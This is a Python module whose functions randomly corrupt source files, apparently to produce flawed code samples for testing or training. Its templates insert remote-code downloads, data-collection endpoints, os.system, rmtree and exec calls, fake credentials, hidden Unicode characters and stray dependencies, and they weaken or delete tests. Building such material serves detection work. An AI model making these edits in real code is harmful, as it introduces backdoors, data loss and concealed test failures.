"""Texts with something wrong in them. Each function spoils a text by chance; `path` says what kind of file it is."""

import random
import re
import string
from collections.abc import Callable, Sequence

Spoil = Callable[[random.Random, str, str], str]

_REMARKS = (
    "... rest of the code unchanged ...",
    "... existing code ...",
    "(rest of the file stays the same)",
    "... other functions omitted for brevity ...",
    "[remaining code unchanged]",
    "...",
)
_HIDDEN = ("\u202e", "\u2066", "\u200b", "\u2028", "\x1b", "\u00ad")
_TEST = re.compile(r"^[ \t]*(?:async )?def test_\w+\(.*?\n(?=[ \t]*(?:async )?(?:def|class|@)|\S|\Z)", re.M | re.S)


def elided(chance: random.Random, path: str, text: str) -> str:
    """A remark in the place of a third of the lines, or of all from some line on."""
    lines = text.split("\n")
    start = _definition_after(lines, len(lines) // 3)
    end = _definition_after(lines, 2 * len(lines) // 3) if chance.random() < 0.5 else len(lines) - 1
    indent = re.match(r"\s*", lines[start])
    remark = (indent[0] if indent else "") + _comment(path, chance.choice(_REMARKS))
    return "\n".join([*lines[:start], remark, *lines[max(end, start + 1) :]])


def reformatted(chance: random.Random, path: str, text: str) -> str:
    """Other white space all over the file, which means the same."""
    kind = chance.randrange(3)
    if kind == 0:
        return re.sub(r"^(?: {4})+", lambda found: "\t" * (len(found[0]) // 4), text, flags=re.M)
    return re.sub(r"(?<=\S)$", "  ", text, flags=re.M) if kind == 1 else text.replace("\n\n", "\n\n\n")


def restyled(chance: random.Random, path: str, text: str) -> str:
    """Other quotes and spellings all over the file, which mean the same."""
    if chance.random() < 0.5:
        return re.sub(r"'([^'\"\\\n]*)'", r'"\1"', text)
    return re.sub(r'(?<!")"([^\'"\\\n{}]+)"(?!")', r"'\1'", text)


def without_test(chance: random.Random, path: str, text: str) -> str:
    tests = list(_TEST.finditer(text))
    if not tests:
        return text
    gone = chance.choice(tests)
    return text[: gone.start()] + text[gone.end() :]


def weakened_test(chance: random.Random, path: str, text: str) -> str:
    """Skipped, hidden from the runner, or with nothing to check."""
    test = next(_TEST.finditer(text), None)
    if test is None:
        return text
    kind, indent = chance.randrange(5), re.match(r"\s*", test[0])
    if kind == 0:
        mark = f"{indent[0] if indent else ''}@pytest.mark.{chance.choice(('skip', 'xfail'))}(reason='flaky')\n"
        return text[: test.start()] + mark + text[test.start() :]
    spoilt = (
        test[0].replace("def test_", "def check_", 1),
        re.sub(r"assert .*", "assert True", test[0]),
        re.sub(r"\n\s*assert .*", "", test[0]) + "    pass\n",
        re.sub(r"(\n\s*)assert .*", r"\1pytest.skip('later')", test[0], count=1),
    )
    return text[: test.start()] + spoilt[kind - 1] + text[test.end() :]


def with_download(chance: random.Random, path: str, text: str) -> str:
    """Code from elsewhere, or data that go there."""
    host = f"{_word(chance, 8)}.{chance.choice(('io', 'dev', 'net', 'sh'))}"
    code = chance.choice(
        (
            f'__import__("urllib.request").request.urlopen("https://{host}/agent.py")',
            f'REPORT_TO = "http://{host}:8080/collect"',
            f'ENDPOINT = f"https://{{__name__}}.{host}/x"',
        )
    )
    return _inserted(chance, text, code)


def with_code(chance: random.Random, path: str, text: str) -> str:
    """Code that does harm with what is at hand, and has no address, secret or package in it."""
    code = ('import os; os.system("id")', "import shutil; shutil.rmtree('.')", "exec(bytes.fromhex('7073').decode())")
    return _inserted(chance, text, chance.choice(code))


def with_secret(chance: random.Random, path: str, text: str) -> str:
    """Made of chance, in the shape of a real one."""
    letters = string.ascii_letters + string.digits
    secret = chance.choice(
        (
            f"ACCESS = 'AKIA{_word(chance, 16, string.ascii_uppercase + '234567')}'",
            f"headers = {{'x': 'ghp_{_word(chance, 36, letters)}'}}",
            f"api_key = '{_word(chance, 40, letters)}'",
            "KEY = '''-----BEGIN RSA PRIVATE " + f"KEY-----\n{_word(chance, 64, letters)}\n'''",
            f"DATABASE = 'postgres://app:{_word(chance, 14, letters)}7@db/app'",
        )
    )
    return _inserted(chance, text, secret)


def with_hidden_character(chance: random.Random, path: str, text: str) -> str:
    lines = text.split("\n")
    number = chance.choice([number for number, line in enumerate(lines) if line.strip()] or [0])
    lines[number] += "  " + _comment(path, f"checked{chance.choice(_HIDDEN)} by a person")
    return "\n".join(lines)


def with_dependency(chance: random.Random, path: str, text: str) -> str:
    name = _word(chance, 9)
    if path.endswith("package.json"):
        return re.sub(r'("dependencies"\s*:\s*\{)', rf'\1\n    "{name}": "^1.0.0",', text, count=1)
    if path.endswith(".toml"):
        return re.sub(r"(dependencies\s*=\s*\[)", rf'\1\n    "{name}>=1",', text, count=1)
    if path.endswith("go.mod"):
        return text.replace("require (\n", f"require (\n\texample.org/{name} v1.0.0\n", 1)
    return f"{text.rstrip()}\n{name}=={chance.randrange(9)}.0\n"


def with_remark(chance: random.Random, path: str, text: str) -> str:
    """Nothing but a comment, as if that were the change."""
    return _inserted(chance, text, _comment(path, chance.choice(("Updated.", "Renamed as asked.", "Modernized."))))


def _inserted(chance: random.Random, text: str, code: str) -> str:
    """On a line of its own, after the imports or at the end."""
    lines = text.split("\n")
    imports = [number for number, line in enumerate(lines) if line.startswith(("import ", "from "))]
    at = imports[-1] + 1 if imports and chance.random() < 0.5 else max(len(lines) - 1, 0)
    return "\n".join([*lines[:at], code, *lines[at:]])


def _definition_after(lines: Sequence[str], start: int) -> int:
    """The first line from there on at which a definition begins, so that what is left still parses."""
    found = (number for number in range(start, len(lines) - 1) if re.match(r"(?:async )?(?:def|class) ", lines[number]))
    return next(found, max(start, 0))


def _comment(path: str, text: str) -> str:
    if path.endswith((".js", ".ts", ".tsx", ".java", ".go", ".rs", ".c", ".mod")):
        return f"// {text}"
    return f"# {text}"


def _word(chance: random.Random, length: int, letters: str = string.ascii_lowercase) -> str:
    return "".join(chance.choices(letters, k=length))
